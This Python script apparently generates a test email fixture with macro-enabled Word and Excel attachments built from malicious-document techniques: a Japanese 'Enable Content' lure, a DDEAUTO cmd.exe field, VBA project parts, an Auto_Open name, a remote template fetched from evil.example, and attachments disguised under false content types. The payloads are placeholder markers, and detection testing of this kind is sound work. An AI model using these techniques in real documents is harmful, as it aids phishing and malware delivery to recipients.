# SPDX-License-Identifier: GPL-2.0-or-later
import base64

from recipes import emit
from recipes_ooxml import *

LURE = paragraph('「コンテンツの有効化」を押してください') + paragraph(field('DDEAUTO cmd.exe "PHI06-MARK"', 'x'))
DOCUMENT = docx(LURE, [('rId1', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin'), ('rId2', 'attachedTemplate', 'http://evil.example/a.dotm', 'External')], kind='docm', parts={'word/vbaProject.bin': b'PHI06-MARK' * 20})
BOOK = xlsx(cell('A1', 'コンテンツの有効化', kind=' t="str"'), kind='xlsm', names='<definedName name="Auto_Open">PHI06-MARK!A1</definedName>', rels=[('rId9', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin')], parts={'xl/vbaProject.bin': b'PHI06-MARK' * 20})
parts = ''.join(f'--b\nContent-Type: {kind}; name="{name}"\nContent-Disposition: attachment; filename="{name}"\nContent-Transfer-Encoding: base64\n\n' + base64.encodebytes(data).decode()
                for kind, name, data in (('application/msword', 'a.doc', DOCUMENT), ('text/plain', 'b.txt', DOCUMENT), ('image/png', 'c.png', BOOK), ('application/vnd.ms-excel', 'd.xls', BOOK)))
emit(('From: a@example.jp\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\nコンテンツの有効化\n' + parts + '--b--\n').encode())
